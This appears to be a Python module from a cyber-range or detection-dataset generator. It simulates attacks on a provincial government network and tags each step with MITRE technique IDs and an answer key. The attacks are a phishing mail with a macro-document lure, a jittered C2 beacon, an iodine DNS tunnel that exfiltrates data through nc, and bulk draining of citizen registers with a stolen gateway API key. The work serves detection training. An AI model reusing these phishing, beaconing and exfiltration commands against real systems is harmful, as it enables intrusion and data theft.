"""Attacks whose traffic leaves the province: a mail with an attachment and the beacon that follows, a tunnel in DNS, a key
of the data-sharing gateway in the wrong hands."""

import asyncio
import contextlib
import email.message
import random
import smtplib
import sys
import time

import lab
import names
from campaign import Step
from clock import Clock
from office import LOCAL_DNS, MAIL, ask_name
from web_client import Browser, GATE

KEY_AGENT = ("python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1")


def send_bait(stage, step):
    """The mail is sent by a tool of its own namespace, so that it comes from where the answer says."""
    to = stage.world.officials[step.victim][0]
    stage.script(step, "attacks_inside", f"bait('{to}', '{step.word}')")


def bait(to, word):
    mail = email.message.EmailMessage()
    mail["From"], mail["To"] = "Phong Ke toan <ketoan@sotaichinh-donghoa.example>", f"{to}@{names.DOMAIN}"
    mail["Subject"] = "V/v đối chiếu công nợ quý I (gấp)"
    mail.set_content(
        "Kính gửi anh/chị,\n\nĐề nghị mở tệp đính kèm và bật nội dung (Enable Content) để xem bảng kê.\n"
    )
    data = b"PK\3\4" + random.Random(word).randbytes(3000) + b"word/vbaProject.bin" + b"\0" * 500
    mail.add_attachment(
        data, maintype="application", subtype="vnd.ms-word.document.macroEnabled.12", filename=f"{word}.docm"
    )
    with smtplib.SMTP(MAIL, 25, "mail.sotaichinh-donghoa.example", 10) as smtp:
        smtp.send_message(mail)


def beacon(stage, step):
    """The mail is fetched, and what it brought begins to call."""
    user, _, word = stage.world.officials[step.victim]
    stage.tool(
        "lan",
        f"curl -s -m 8 --interface {step.source} -u '{user}:{word}' 'imap://{MAIL}/INBOX;MAILINDEX=1'; "
        f"PYTHONPATH={sys.path[0]} exec /usr/bin/python3 -m attacks_inside beacon {stage.folder}/clock.json "
        f"{step.source} {step.domain} {step.every} {step.jitter} {step.until} {'get' if step.gets else 'post'}",
        3000,
        step.name,
    )


async def beats(clock, source, domain, every, jitter, until, method):
    """A request at each interval, give or take, as a form or as a script's file with a cookie; the name is asked for
    again each time its answer has run out."""
    rng, asked, address = random.Random(source), -1e9, None
    browser = None
    while clock.now() < until:
        if clock.now() - asked > 300:
            address, asked = await asyncio.to_thread(ask_name, source, LOCAL_DNS, domain), clock.now()
        if address:
            browser = Browser(
                source,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
                domain,
                server=address,
                port=80,
            )
            if method == "get":
                await browser.ask("/jquery-3.3.1.min.js", Cookie="s=" + rng.randbytes(40).hex())
            else:
                await browser.ask(
                    f"/v2/status?id={source.replace('.', '')}", "POST", body=rng.randbytes(48).hex().encode()
                )
            browser.close()
        await clock.pause(every * (1 + rng.uniform(-jitter, jitter)))


def tunnel(stage, step):
    """iodine through the province's own resolver, a file sent through it."""
    inside = stage.place.spawn(
        step.space,
        ["iodine", "-f", "-r", "-P", "mat-khau", "-T", step.record, "-m", "900", LOCAL_DNS, step.domain],
        stdout=open(f"{stage.folder}/iodine.out", "w"),
        stderr=-2,
    )
    end = time.time() + step.seconds - 1
    time.sleep(2)
    stage.tool(
        step.space,
        "for n in 1 2 3 4 5 6 7 8 9; do ping -c 1 -W 1 172.30.0.1 && break; done; head -c 60000 /dev/urandom | base64"
        " | timeout 14 nc -q 1 -w 8 172.30.0.1 7000; ping -c 5 -i 0.5 172.30.0.1",
        max(1.0, end - time.time() - 1),
        step.name,
    )
    time.sleep(max(0.0, end - time.time()))
    inside.terminate()


def drain(stage, step):
    """Register after register, page after page, with an agency's key from an address that is not the agency's."""
    stage.tool(
        "wan",
        f"PYTHONPATH={sys.path[0]} /usr/bin/python3 -m attacks_inside drain {step.source} {step.key} {step.client} "
        f"{step.pages} {step.agent}",
        step.seconds - 0.5,
        step.name,
    )


async def pages(source, key, client, count, user_agent):
    browser = Browser(source, user_agent, "lgsp", server=GATE, port=8080)
    for page in range(1, int(count) + 1):
        await browser.ask(
            f"/lgsp/v1/ho-kinh-doanh?trang={page}&so-luong=500", X_API_Key=key, X_Don_Vi=client.split("-")[0]
        )
        if page % 2:
            await browser.ask(
                f"/lgsp/v1/cong-dan/0{34095000000 + page}", X_API_Key=key, X_Don_Vi=client.split("-")[0]
            )
        await asyncio.sleep(0.02)


def steps(rng, sources, outsiders, world):
    made = []

    def add(name, day, seconds, rate, act, source, technique, tool, target, what, chain=None, **more):
        step = Step(
            name,
            day,
            seconds,
            rate,
            act,
            {"chain": chain, "source": source, "target": target, "technique": technique, "tool": tool, "what": what},
        )
        step.source, step.rng = source, rng
        for key, value in more.items():
            setattr(step, key, value)
        made.append(step)
        return step

    hour = lambda low, high: rng.uniform(low, high) * 3600
    victim, tunneller = rng.sample(range(len(world.offices)), 2)
    begin = hour(8, 10)
    outsiders["thu"], outsiders["c2"], outsiders["ham"] = sources.take(), sources.take(), sources.take()
    domain = (
        f"{rng.choice(('cdn', 'update', 'telemetry'))}.{rng.choice(('ms-office-sync', 'win-metrics', 'vn-cdn-tg'))}.example"
    )
    word = rng.choice(("Bang-ke-cong-no", "Danh-sach-dinh-kem", "Phu-luc-01"))
    add(
        "bait",
        begin,
        5,
        2,
        send_bait,
        outsiders["thu"],
        ["T1566.001"],
        "python smtplib",
        "mail-01",
        "mail with a macro document",
        "bait",
        victim=victim,
        word=word,
        space="thu",
    )
    every = rng.choice((45, 60, 90, 120, 180))
    seen = add(
        "beacon",
        begin + hour(0.1, 0.5),
        0,
        0,
        beacon,
        world.offices[victim],
        ["T1071.001", "T1573"],
        "own client",
        domain,
        f"a beacon every {every} s",
        "bait",
        domain=domain,
        every=every,
        jitter=rng.uniform(0.05, 0.2),
        until=begin + hour(5, 8),
        victim=victim,
        gets=False,
    )
    seen.answer["callback"] = outsiders["c2"]
    zone = f"{rng.choice('tuv')}.{rng.choice(('kho-anh', 'dich-vu-so', 'tin-moi'))}.example"
    address = "10.20.10.2" + str(rng.randrange(10, 50))
    add(
        "tunnel",
        hour(1, 22),
        26,
        rng.uniform(4, 8),
        tunnel,
        address,
        ["T1071.004", "T1572", "T1048.003"],
        "iodine",
        zone,
        "a tunnel in DNS, a file sent through it",
        domain=zone,
        record=rng.choice(("NULL", "TXT")),
        space="ham-trong",
    )
    made[-1].answer["also"] = ["10.20.1.53"]  # the resolver hands it on
    client, key, _ = rng.choice(world.keys)
    add(
        "drain",
        rng.choice((hour(0.5, 4.5), hour(19.5, 23))),
        14,
        rng.uniform(20, 60),
        drain,
        f"10.30.{rng.randrange(60, 90)}.{rng.randrange(10, 240)}",
        ["T1078", "T1530", "T1567"],
        "own client",
        "lgsp-01",
        f"key of {client} used from elsewhere, registers read whole",
        key=key,
        client=client,
        pages=rng.randrange(180, 260),
        agent=rng.choice(KEY_AGENT),
    )
    made[-1].answer["accounts"] = [client]
    world.names, world.relay = {domain: outsiders["c2"]}, {zone: outsiders["ham"]}
    return made


if __name__ == "__main__":
    if sys.argv[1] == "beacon":
        path, source, domain, every, jitter, until, method = sys.argv[2:]
        asyncio.run(beats(Clock.load(path), source, domain, float(every), float(jitter), float(until), method))
    else:
        with contextlib.suppress(OSError):
            asyncio.run(pages(*sys.argv[2:]))
